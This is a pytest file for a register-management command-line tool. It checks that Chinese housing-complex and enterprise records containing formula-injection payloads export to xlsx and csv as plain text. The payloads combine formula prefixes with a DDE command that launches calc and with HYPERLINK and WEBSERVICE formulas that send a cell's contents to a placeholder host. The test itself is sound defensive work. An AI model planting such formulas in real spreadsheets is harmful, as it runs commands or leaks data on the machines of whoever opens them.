"""What people write into registers stays text in a real spreadsheet program, whatever it looks like."""

import csv
import json
import shutil
import subprocess
import xml.etree.ElementTree as tree

import openpyxl
import pytest
from conftest import GONGZHI, ROOT

BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", '"=', "　=", "\n=", "%="]
BODIES = [
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"看")',
    'WEBSERVICE("http://x.example/")',
]
PAYLOADS = [beginning + body for beginning in BEGINNINGS for body in BODIES]
# Every register whose rows need nothing but themselves, with its fields of free text.
REGISTERS = {
    "complexes": (
        ["小区名称", "曾用名", "地址", "东至", "南至", "西至", "北至", "物业类型", "建设单位"],
        lambda n, text: [f"苑{n}{text}"[:60]] + [text] * 8,
    ),
    "enterprises": (
        ["统一社会信用代码", "企业名称", "简称", "地址"],
        lambda n, text: [credit_code(n), f"{text}公司{n}"[:80], text[:20], text],
    ),
}
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def credit_code(number):
    letters = "0123456789ABCDEFGHJKLMNPQRTUWXY"
    head = f"91411502MA9{number:06d}"
    total = sum(letters.index(c) * pow(3, i, 31) for i, c in enumerate(head))
    return head + letters[(31 - total % 31) % 31]


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas") / "g"
    run("init", folder, "--rulebook", ROOT / "rulebooks/shihe")
    return folder


def run(*words):
    return subprocess.run([GONGZHI, *map(str, words)], capture_output=True, text=True)


def opened(file, folder):
    """The cells of a table as LibreOffice sees them: how many are formulas, and the texts."""
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/office"]
        + ["--infilter=CSV:44,34,76,1,,0,false,true,false"] * (file.suffix == ".csv")
        + ["--convert-to", "fods", "--outdir", str(folder), str(file)],
        check=True, capture_output=True, timeout=180,
    )
    root = tree.parse(folder / (file.stem + ".fods")).getroot()
    formulas = [c for c in root.iter(TABLE + "table-cell") if c.get(TABLE + "formula")]
    texts = {"".join(p.itertext()) for p in root.iter(TEXT + "p")}
    return formulas, texts


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs libreoffice-calc-nogui")
@pytest.mark.parametrize("kind", REGISTERS)
def test_nothing_that_goes_out_is_a_formula_and_it_comes_in_again(house, tmp_path, kind):
    head, row = REGISTERS[kind]
    came = tmp_path / "came.csv"
    with open(came, "w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([head] + [row(n, text) for n, text in enumerate(PAYLOADS)])
    taken = json.loads(run("import", kind, came, house, "--json").stdout)
    assert taken["counts"]["added"] == len(PAYLOADS), taken["problems"][:3]

    for ending in ["xlsx", "csv"]:
        out = tmp_path / f"out-{ending}.{ending}"
        assert run("export", kind, out, house).returncode == 0
        formulas, texts = opened(out, tmp_path)
        assert formulas == []
        if ending == "xlsx":
            cells = [c.value for line in openpyxl.load_workbook(out).active.iter_rows() for c in line]
            written = {c for c in cells if isinstance(c, str) and "calc" in c}
            assert len(written) >= len(BEGINNINGS) // 2
            assert written <= texts
        again = json.loads(run("import", kind, out, house, "--json").stdout)
        assert again["counts"]["unchanged"] == len(PAYLOADS), again["problems"][:3]
